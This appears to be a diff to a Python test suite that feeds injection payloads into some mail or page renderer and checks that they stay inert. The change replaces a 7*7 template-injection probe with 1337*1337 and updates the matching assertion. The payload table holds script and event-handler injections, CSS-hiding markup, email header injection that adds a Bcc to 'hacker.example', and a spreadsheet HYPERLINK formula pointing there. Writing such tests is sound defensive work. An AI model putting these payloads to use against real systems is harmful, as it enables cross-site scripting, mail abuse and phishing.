@@ -20,7 +20,7 @@ ATTACKS = {
     "markup": f"{LABOUR} <script>alert(1)</script><img src=x onerror=alert(2)>",
     "attribute": f'{LABOUR} " onmouseover="alert(3)" x="',
     "closing": f"{LABOUR} </td></tr></table></style><style>*{{display:none}}</style>",
-    "template": f"{LABOUR} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
+    "template": f"{LABOUR} {{{{ 1337*1337 }}}} {{% raw %}} ${{1337*1337}} #{{1337*1337}} <%= 1337*1337 %>",
     "header": f"{LABOUR}\r\nBcc: moi-nguoi@hacker.example\r\n\r\nthân thư giả",
     "encoded-word": f"{LABOUR} =?utf-8?q?=0D=0ABcc=3A_x=40hacker=2Eexample?=",
     "formula": f'=HYPERLINK("http://hacker.example","{LABOUR}")',
@@ -103,7 +103,7 @@ def test_no_title_becomes_a_header_or_another_mail(attacked: Attacked) -> None:
 
 
 def test_no_template_is_run(attacked: Attacked) -> None:
-    assert "49" not in re.findall(r"\{\{ ?7\*7 ?\}\}|(?<!\d)49(?!\d)", attacked.text)
+    assert "1787569" not in attacked.text + attacked.html
 
 
 def test_no_letter_hides_or_turns_the_text_round(attacked: Attacked) -> None:
